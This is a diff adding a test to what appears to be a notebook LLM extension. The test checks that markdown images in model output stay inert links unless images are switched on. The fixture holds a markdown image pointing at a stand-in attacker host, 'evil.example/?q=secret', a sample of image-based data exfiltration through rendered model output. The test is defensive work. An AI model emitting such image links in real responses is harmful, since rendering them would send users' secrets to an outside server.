@@ -218,6 +218,23 @@ def test_llm_config_sets_the_default_model(kernel: KernelSession) -> None:
     assert value(kernel, "[_client.default, _client.log]") == [None, True]
 
 
+def test_remote_images_are_links_until_llm_config_images_on(kernel: KernelSession) -> None:
+    cell = "%%llm -m offline:echo\n![leak](https://evil.example/?q=secret) **bold**"
+    remote = "__import__('notebook_llm._render')._render.remote_images()"
+    try:
+        html = ok(kernel, cell).html
+        assert "<img" not in html and "image: leak" in html and "<strong>bold</strong>" in html
+        assert "<td>images</td><td>off</td>" in ok(kernel, "%llm_config").html
+        ok(kernel, "%llm_config images on")
+        assert value(kernel, remote) is True
+        assert '<img src="https://evil.example/?q=secret"' in ok(kernel, cell).html
+        bad = kernel.execute("%llm_config images maybe")
+        assert bad.status == "error" and "cannot understand" in bad.text
+    finally:
+        ok(kernel, "%llm_config --reset")
+    assert value(kernel, remote) is False
+
+
 def test_llm_keys_shows_masked_keys_only(kernel: KernelSession) -> None:
     done = ok(kernel, "%llm_keys")
     assert "OPENAI_API_KEY" in done.text and "environment" in done.text
